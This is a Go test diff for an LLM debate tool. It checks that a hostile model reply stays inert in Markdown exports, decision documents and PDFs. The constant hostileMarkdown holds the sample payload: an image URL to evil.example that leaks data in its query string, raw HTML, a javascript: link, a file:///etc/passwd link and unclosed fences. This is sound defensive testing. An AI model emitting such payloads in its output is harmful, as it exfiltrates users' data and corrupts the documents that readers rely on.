@@ -3,8 +3,14 @@ package main_test
 import (
 	"os"
 	"path/filepath"
+	"regexp"
 	"strings"
 	"testing"
+
+	"github.com/yuin/goldmark"
+	"github.com/yuin/goldmark/ast"
+	"github.com/yuin/goldmark/extension"
+	"github.com/yuin/goldmark/text"
 
 	"github.com/parleyhq/parley/internal/llm/fakellm"
 	"github.com/parleyhq/parley/internal/llm/script"
@@ -66,5 +72,81 @@ func TestHostileTextStaysInert(t *testing.T) {
 	inert("json export", js)
 	if !strings.Contains(js, `\u001b]0;pwned\u0007`) || !strings.Contains(js, `\u009b2J \u202egnp.exe\u007f`) {
 		t.Error("the JSON export does not keep the reply, escaped")
+	}
+}
+
+// hostileMarkdown is a reply that tries to break the documents it is
+// written into: images a viewer fetches (one carrying what the model
+// read), raw HTML (an <img>, a <!-- that hides what follows), a section
+// heading behind a line that only looks like a fence, a fence left open
+// that would make code of every section after it, and links a PDF reader
+// would run or open from disk.
+const hostileMarkdown = "Opening.\n\n![track](https://evil.example/t.png?leak=secret) ![ref][r]\n\n[r]: https://evil.example/r.png\n\n" +
+	"<img src=\"https://evil.example/raw.png\"> [run](javascript:alert(1)) [disk](file:///etc/passwd)\n\n" +
+	"```x`y\n## Behind No Fence\n\n" +
+	"~~~~\nnever closed\n"
+
+// TestHostileMarkdownStaysInItsPlace: the Markdown export, the decision
+// document and the PDF of a debate whose replies are hostileMarkdown have
+// the sections of the same debate with plain replies, no image and no raw
+// HTML, and the PDF links to no javascript: or file: address.
+func TestHostileMarkdownStaysInItsPlace(t *testing.T) {
+	base := loadScript(t, "perspectives.yaml")
+	sections := func(doc string) []string {
+		var out []string
+		root := goldmark.New(goldmark.WithExtensions(extension.Table, extension.Strikethrough)).Parser().Parse(text.NewReader([]byte(doc)))
+		_ = ast.Walk(root, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
+			switch n := n.(type) {
+			case *ast.Heading:
+				if entering && n.Level <= 3 {
+					out = append(out, strings.Repeat("#", n.Level))
+				}
+			case *ast.Image, *ast.RawHTML, *ast.HTMLBlock:
+				if entering {
+					t.Errorf("the document holds a live %s", n.Kind())
+				}
+			}
+			return ast.WalkContinue, nil
+		})
+		return out
+	}
+	var docs []string
+	for _, reply := range []string{"A plain argument.", hostileMarkdown} {
+		rules := append([]script.Rule{{TagRegexp: "^r1/argument/", Reply: &script.Reply{Text: reply}}}, base.Rules...)
+		sc, err := script.New(rules...)
+		if err != nil {
+			t.Fatal(err)
+		}
+		_, dir, env := fakeOpenAI(t, sc, fakellm.WithTokenDelay(0))
+		mustParley(t, dir, env, "", "debate", redisTopic, "--no-checkpoints", "--model", "test-model")
+		id := strings.Fields(strings.Split(mustParley(t, dir, env, "", "list").stdout, "\n")[1])[0]
+		doc := mustParley(t, dir, env, "", "export", id, "--as", "md", "--full").stdout
+		decisions, _ := filepath.Glob(filepath.Join(dir, "docs", "decisions", "*.md"))
+		if len(decisions) != 1 {
+			t.Fatalf("decision documents: %v", decisions)
+		}
+		decision, err := os.ReadFile(decisions[0])
+		if err != nil {
+			t.Fatal(err)
+		}
+		pdf := filepath.Join(dir, "d.pdf")
+		mustParley(t, dir, env, "", "export", id, "--as", "pdf", "-o", pdf)
+		b, err := os.ReadFile(pdf)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if m := regexp.MustCompile(`/URI \((javascript|file):`).Find(b); m != nil {
+			t.Errorf("the PDF links to %s", m)
+		}
+		docs = append(docs, doc, string(decision))
+	}
+	for i, what := range []string{"Markdown export", "decision document"} {
+		plain, hostile := sections(docs[i]), sections(docs[i+2])
+		if strings.Join(plain, " ") != strings.Join(hostile, " ") {
+			t.Errorf("%s: hostile replies change its sections to %v, want %v:\n%s", what, hostile, plain, docs[i+2])
+		}
+	}
+	if !strings.Contains(docs[2], "![track](https://evil.example/t.png?leak=secret)") && !strings.Contains(docs[2], `!\[track](https://evil.example/t.png?leak=secret)`) {
+		t.Errorf("the reply's image is not kept as text:\n%s", docs[2])
 	}
 }
